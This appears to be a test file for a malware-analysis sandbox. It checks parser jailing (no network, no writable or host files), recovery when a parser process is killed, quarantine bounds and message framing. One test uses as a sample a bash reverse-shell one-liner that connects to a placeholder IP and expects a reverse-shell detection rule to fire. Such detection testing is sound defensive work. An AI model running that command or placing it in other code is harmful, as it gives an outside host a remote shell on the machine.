import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { analyse, type ResultBody } from '../sandbox-runner/analyse.ts';
import { loadEngine } from '../sandbox-runner/engine.ts';
import { Examiner } from '../sandbox-runner/examiner.ts';
import { BoundedMachines } from '../sandbox-runner/machines/bounded.ts';
import { FakeMachines } from '../sandbox-runner/machines/fake-machines.ts';
import { bounds } from '../sandbox-runner/parsers/bounds.ts';
import { frame, FrameReader, headerBytesMax } from '../sandbox-runner/parsers/messages.ts';
import { World } from '../sandbox-runner/parsers/world.ts';
import { quietGuest } from './quiet-guest.ts';
import { zip } from './samples/binaries.ts';

const entry = fileURLToPath(new URL('./parsers/hostile-parser.ts', import.meta.url));
const script = Buffer.from('#!/bin/sh\necho x\n');
const small = { ...bounds.NORMAL, heapMiBMax: 64, memoryMiBMax: 1_000 };
const short = { ...small, cpuMsMax: 500, graceCpuMs: 500 };

const world = await World.make();
const jail = await new Examiner([], { count: 1 }).unconfined();
afterAll(() => world.remove());

describe.skipIf(jail !== null)('the jail of parsers', () => {
  /** Runs code in it as parsers are run, but without Node's permission model in front of it. */
  async function inJail(code: string): Promise<string> {
    const [program, words] = world.jail.start(bounds.NORMAL);
    const child = spawn(program, [...words.slice(0, words.indexOf('/node') + 1), '-e', code], { stdio: ['ignore', 'pipe', 'inherit', 'pipe', 'pipe'] });
    let output = '';
    child.stdout!.on('data', (chunk: Buffer) => (output += chunk.toString()));
    await new Promise((resolve) => child.once('close', resolve));
    return output.trim();
  }
  const js = async (code: string) => JSON.parse(await inJail(`console.log(JSON.stringify(${code}))`)) as unknown;
  const fails = (code: string) => `(() => { try { ${code}; return 'allowed'; } catch (error) { return error.code; } })()`;

  test('shows Node, its libraries and our own code, and nothing else of the host', async () => {
    expect(await js("fs.readdirSync('/')")).toEqual(expect.arrayContaining(['assay', 'dev', 'node', 'usr']));
    const names = (await js("fs.readdirSync('/')")) as string[];
    expect(names.filter((name) => !/^(assay|dev|node|usr|lib\w*)$/.test(name))).toEqual([]);
    expect(await js("fs.readdirSync('/assay')")).toEqual(['node_modules', 'package.json', 'sandbox-runner', 'schema']);
    expect(await js("fs.readdirSync('/usr/bin')")).toEqual(['env', 'setpriv']);
    for (const path of ['/etc/passwd', '/proc/self/status', '/tmp', '/root', '/home']) expect(await js(fails(`fs.statSync('${path}')`)), path).toBe('ENOENT');
  });

  test('lets nothing be written, and no environment of the runner in', async () => {
    for (const path of ['/x', '/assay/x', '/assay/package.json', '/assay/sandbox-runner/x', '/dev/x']) expect(await js(fails(`fs.writeFileSync('${path}', 'x')`)), path).toMatch(/^(EROFS|EACCES|EPERM)$/);
    expect(Object.keys((await js('process.env')) as object).sort()).toEqual(['LD_LIBRARY_PATH', 'NODE_ENV']);
  });

  test('has no network', async () => {
    expect(await js('Object.keys(os.networkInterfaces())')).toEqual([]);
    const refused = "const s = net.connect(9, '192.0.2.1'); s.on('error', (e) => console.log(JSON.stringify(e.code)))";
    expect(JSON.parse(await inJail(refused))).toBe('ENETUNREACH');
  });

  test('ends with the runner, whatever it is busy with', async () => {
    const [program, words] = world.jail.start(bounds.NORMAL);
    const child = spawn(program, [...words.slice(0, words.indexOf('/node') + 1), '-e', "console.log('runs'); for (;;);"], { stdio: ['ignore', 'pipe', 'ignore', 'pipe', 'pipe'] });
    await new Promise((resolve) => child.stdout!.once('data', resolve));
    // The end of pipe 3 that the runner holds: it closes when the runner ends in any way.
    (child.stdio[3] as unknown as { destroy(): void }).destroy();
    await new Promise((resolve) => child.once('close', resolve));
  });
});

describe.each([['jailed', undefined], ['where a host has no jail', 'for this test']] as const)('a parser process, %s,', (_name, unconfined) => {
  const examiners = [small, short].map((bounds) => new Examiner([], { count: 1, bounds, entry, ...(unconfined === undefined ? {} : { unconfined }) }));
  afterAll(async () => void (await Promise.all(examiners.map(async (one) => await one.close()))));

  test.each([
    ['dies', 'STATIC_LIMIT_MEMORY'], ['ends with an exception', 'STATIC_FAILED'], ['fills the heap', 'STATIC_LIMIT_MEMORY'], ['fills memory beside the heap', 'STATIC_LIMIT_MEMORY'],
    ['never comes to an end', 'STATIC_LIMIT_TIME'], ['never stops telling', 'STATIC_FAILED'], ['announces more than there can be', 'STATIC_FAILED'], ['answers what is no JSON', 'STATIC_FAILED'],
    ['names a weight beyond the scale', 'STATIC_FAILED'], ['adds words of its own', 'STATIC_FAILED'],
  ])('that %s is replaced, and what it had found is kept with the word %s', async (act, limitation) => {
    const examiner = examiners[limitation === 'STATIC_LIMIT_TIME' ? 1 : 0]!;
    const examined = await examiner.examine(script, act);
    expect(examined.limitations).toEqual([limitation]);
    expect(examined.identity.kind).toBe('script');
    expect(examined.signals.length).toBeGreaterThan(0);
    expect(examined.facts.md5).toBe(createHash('md5').update(script).digest('hex'));
    expect((await examiner.examine(script, 'is honest')).limitations).toEqual([]);
  });
});

test('a parser process that cannot be started is our fault, and no finding of any file', async () => {
  const broken = new Examiner([], { entry: fileURLToPath(new URL('./parsers/nothing-here.ts', import.meta.url)) });
  await expect(broken.examine(script, 'a.sh')).rejects.toThrow('a parser process could not be started');
  await broken.close();
});

test('a sample with small bounds is parsed in a process of its own, within a third of the nesting', async () => {
  const examiner = new Examiner([], { count: 1 });
  let nested = zip({ 'core.sh': '#!/bin/sh\n' });
  for (let depth = 0; depth < bounds.NORMAL.depthMax; depth++) nested = zip({ [`${depth}.zip`]: nested });
  const [normal, reduced] = [await examiner.examine(nested, 'n.zip'), await examiner.examine(nested, 'n.zip', [], { bounds: 'SMALL' })];
  expect([normal.members.length, reduced.members.length]).toEqual([bounds.NORMAL.depthMax, bounds.SMALL.depthMax]);
  await examiner.close();
});

describe('a file whose parser process was killed', () => {
  test('still runs, and its verdict has what was found before', async () => {
    const engine = await loadEngine();
    const examiner = engine.examiner;
    // The process is killed as soon as the file is identified and scanned.
    const killing = {
      examine: async (bytes: Buffer, name: string, passwords: readonly string[] = []) => await examiner.examine(bytes, name, passwords, {
        found: (finding) => {
          if (finding.kind === 'facts') for (const one of examiner.processes) one.kill();
        },
      }),
    };
    const machines = new BoundedMachines(new FakeMachines(['linux', 'windows-10'], quietGuest), 1);
    const bytes = Buffer.from('#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.1/4444 0>&1\n');
    const results: ResultBody[] = [];
    await analyse({ ...engine, examiner: killing as unknown as Examiner }, machines, { fileName: 'a.sh', runMsMax: 1_000, environment: null }, bytes, async (result) => void results.push(result));
    const finished = results.find((one) => one.kind === 'finished')!;
    expect(finished.limitations).toContain('STATIC_LIMIT_MEMORY');
    expect(finished.signals.map((one) => one.rule)).toContain('yara-reverse_shell');
    expect(finished.detonations.map((one) => one.environment)).toEqual(['linux']);
    await engine.close();
  });
});

test('a job in quarantine is examined within the small bounds, and runs once', async () => {
  const engine = await loadEngine();
  const asked: (string | undefined)[] = [];
  const watching = {
    examine: async (bytes: Buffer, name: string, passwords: readonly string[], options?: { bounds?: 'NORMAL' | 'SMALL' }) => {
      asked.push(options?.bounds);
      return await engine.examiner.examine(bytes, name, passwords, options);
    },
  };
  const files = Object.fromEntries([1, 2, 3].map((n) => [`${n}.sh`, `#!/bin/sh\necho ${n}\n`]));
  const runsOf = async (quarantine: boolean) => {
    const machines = new BoundedMachines(new FakeMachines(['linux'], quietGuest), 1);
    const results: ResultBody[] = [];
    await analyse({ ...engine, examiner: watching as unknown as Examiner }, machines, { fileName: 'a.zip', runMsMax: 1_000, environment: null, quarantine }, zip(files), async (result) => void results.push(result));
    return results.find((one) => one.kind === 'finished')!.detonations.length;
  };
  expect(await runsOf(false)).toBe(3);
  expect(new Set(asked.splice(0))).toEqual(new Set([undefined]));
  expect(await runsOf(true)).toBe(1);
  expect(new Set(asked)).toEqual(new Set(['SMALL']));
  await engine.close();
}, 120_000);

describe('frames', () => {
  test('come out as they went in, in whatever pieces they arrive', () => {
    fc.assert(fc.property(fc.array(fc.tuple(fc.jsonValue(), fc.uint8Array({ maxLength: 200 })), { maxLength: 10 }), fc.array(fc.nat(50), { minLength: 1 }), (frames, sizes) => {
      const all = Buffer.concat(frames.flatMap(([header, payload]) => frame(header, payload)));
      const reader = new FrameReader(1_000);
      const got: unknown[] = [];
      for (let at = 0, n = 0; at < all.length; n++) {
        const size = 1 + sizes[n % sizes.length]!;
        for (const { header, payload } of reader.push(all.subarray(at, at + size))) got.push([header, [...payload]]);
        at += size;
      }
      expect(got).toEqual(frames.map(([header, payload]) => [JSON.parse(JSON.stringify(header)) as unknown, [...payload]]));
    }));
  });
  test('of more than their bounds are refused before they are kept', () => {
    const lengths = (header: number, payload: number) => {
      const head = Buffer.alloc(8);
      head.writeUInt32LE(header, 0);
      head.writeUInt32LE(payload, 4);
      return head;
    };
    expect(() => [...new FrameReader(100).push(lengths(headerBytesMax + 1, 0))]).toThrow('a frame of');
    expect(() => [...new FrameReader(100).push(lengths(1, 101))]).toThrow('a frame of');
  });
  test('of any bytes give frames or an error, and never a crash', () => {
    fc.assert(fc.property(fc.array(fc.uint8Array({ maxLength: 40 }), { maxLength: 20 }), (chunks) => {
      const reader = new FrameReader(1_000);
      try {
        for (const chunk of chunks) for (const { payload } of reader.push(Buffer.from(chunk))) expect(payload.length).toBeLessThanOrEqual(1_000);
      } catch (error) {
        expect(error).toBeInstanceOf(Error);
      }
    }));
  });
});
